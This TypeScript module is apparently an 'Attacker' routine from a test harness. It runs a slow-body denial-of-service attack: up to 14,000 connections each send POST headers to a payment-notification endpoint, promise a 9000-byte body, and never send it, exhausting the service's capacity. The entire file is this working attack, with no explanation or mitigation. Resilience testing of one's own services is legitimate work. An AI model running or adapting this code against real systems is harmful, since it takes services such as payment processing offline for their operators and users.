import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attacker } from '../target.ts'
import { mostConnections, newAnswers, open, spread, stillOpen, tally, wire } from './sockets.ts'

/** More than the service has places. */
const CONNECTIONS = 14_000
const OPENING_SECONDS = 8

/** Connections that promise a body and never send it: each is a request under way. No credentials. */
export const unsentBodies: Attacker = async ({ url, seconds }) => {
  const answers = newAnswers()
  const headers = { 'content-type': 'application/json', 'content-length': '9000' }
  const request = wire(url, 'POST', '/acquirer/paymentNotification', headers)
  const sockets: Socket[] = []
  const deadline = performance.now() + seconds * 1_000
  await spread(Math.min(CONNECTIONS, mostConnections()), OPENING_SECONDS, () => {
    const socket = open(url, answers)
    socket.write(request)
    sockets.push(socket)
  })
  await sleep(deadline - performance.now())
  const [sent, left] = [sockets.length, stillOpen(sockets)].map((count) => count.toLocaleString('en'))
  return `${sent} connections whose body never comes: ${tally(answers)}, ${left} left`
}
